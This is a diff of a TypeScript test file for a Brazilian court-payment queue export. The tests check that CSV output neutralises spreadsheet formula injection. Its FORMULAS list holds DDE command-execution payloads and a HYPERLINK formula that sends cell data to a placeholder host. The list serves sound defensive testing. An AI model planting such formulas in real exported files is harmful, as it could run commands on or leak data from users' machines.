@@ -18,7 +18,15 @@ import { staffHeaders } from '../support/api.ts';
 import { GENERATED_ENTE, appOver, peopleRegistryArb, seed } from './fixtures.ts';
 
 /** Text that a spreadsheet would run as a formula (the classic DDE payload among them). */
-const FORMULAS = ["=cmd|' /C calc'!A0", '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=HYPERLINK("http://exemplo.invalid/?x="&A1,"clique")'];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("http://exemplo.invalid/?x="&A1,"clique")',
+];
 const TRIGGER = /^[=+\-@\t\r]/;
 /** What the writer must turn a cell into. */
 const neutralised = (cell: string) => (TRIGGER.test(cell) ? `'${cell}` : cell);
@@ -64,7 +72,15 @@ describe('staff export with personal data', () => {
     for (const p of listed) {
       for (const b of p.beneficiarios) {
         const row = itens.find((r) => r['numero'] === p.numero && r['beneficiario_id'] === b.id)!;
-        expect(row).toMatchObject({ nome: b.nome, cpf: b.cpf, nascimento: b.nascimento, doenca_grave_desde: b.doencaGraveDesde ?? '', deficiencia_desde: b.deficienciaDesde ?? '', valor: b.valorBrl.toFixed(2), pago: b.pagoBrl.toFixed(2) });
+        expect(row).toMatchObject({
+          nome: b.nome,
+          cpf: b.cpf,
+          nascimento: b.nascimento,
+          doenca_grave_desde: b.doencaGraveDesde ?? '',
+          deficiencia_desde: b.deficienciaDesde ?? '',
+          valor: b.valorBrl.toFixed(2),
+          pago: b.pagoBrl.toFixed(2),
+        });
       }
     }
     // The superpreference ground is there for staff (and only here).
@@ -73,11 +89,15 @@ describe('staff export with personal data', () => {
   });
 
   it('CSV and JSON carry the same rows, the CSV with formulas neutralised', async () => {
-    const json = (await (await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.json`, { headers: staffHeaders })).json()) as { itens: Record<string, string>[] };
+    const json = (await (await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.json`, { headers: staffHeaders })).json()) as {
+      itens: Record<string, string>[];
+    };
     const res = await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.csv`, { headers: staffHeaders });
     expect(res.headers.get('content-type')).toContain('text/csv');
     const [header, ...rows] = csvCells(await res.text());
-    expect(rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])))).toEqual(json.itens.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, neutralised(v)]))));
+    expect(rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])))).toEqual(
+      json.itens.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, neutralised(v)]))),
+    );
   });
 });
 
@@ -121,12 +141,26 @@ describe('formula injection in CSV', () => {
       const file = join(dir, 'lista.csv');
       const header = 'numero,ente_id,esfera,regime,natureza,apresentado_em,valor_requisitado';
       const quote = (t: string) => `"${t.replace(/"/g, '""')}"`;
-      writeFileSync(file, `${header}\n${FORMULAS.slice(0, 4).map((f, i) => `${quote(f)},municipio-x,municipal,geral,comum,2024-0${i + 1}-10 10:00,${1000 + i}.00`).join('\n')}\n`);
+      writeFileSync(
+        file,
+        `${header}\n${FORMULAS.slice(0, 4)
+          .map((f, i) => `${quote(f)},municipio-x,municipal,geral,comum,2024-0${i + 1}-10 10:00,${1000 + i}.00`)
+          .join('\n')}\n`,
+      );
       const bin = fileURLToPath(new URL('../../bin/precatorios.mjs', import.meta.url));
       const out = spawnSync(process.execPath, [bin, 'fila', file, '--formato', 'csv', '--data', '2025-11-23'], { encoding: 'utf8' });
       expect(out.stderr).toBe('');
       const csv = csvCells(out.stdout);
-      expect(csv.slice(1).map((r) => r[csv[0]!.indexOf('numero')]).sort()).toEqual(FORMULAS.slice(0, 4).map((f) => `'${f}`).sort());
+      expect(
+        csv
+          .slice(1)
+          .map((r) => r[csv[0]!.indexOf('numero')])
+          .sort(),
+      ).toEqual(
+        FORMULAS.slice(0, 4)
+          .map((f) => `'${f}`)
+          .sort(),
+      );
       expect(csv.flat().filter((c) => TRIGGER.test(c))).toEqual([]);
     } finally {
       rmSync(dir, { recursive: true, force: true });
